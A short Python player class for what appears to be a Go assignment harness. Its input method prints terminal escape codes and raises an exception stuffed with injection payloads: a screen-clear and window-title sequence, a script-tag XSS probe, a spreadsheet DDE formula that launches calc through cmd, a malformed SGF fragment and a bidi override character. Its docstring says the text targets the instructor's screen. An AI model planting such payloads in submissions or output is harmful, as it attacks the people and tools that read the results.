"""Raises an exception whose text would run on the screen of the instructor."""


class MyPlayer:
    def get_input(self, go, piece_type):
        print("\x1b[2J\x1b]0;owned\x07\u202e")
        raise ValueError("\x1b[2J\r\n<script>alert(1)</script>\n=cmd|' /C calc'!A0\n(;SZ[1]]\u202e")
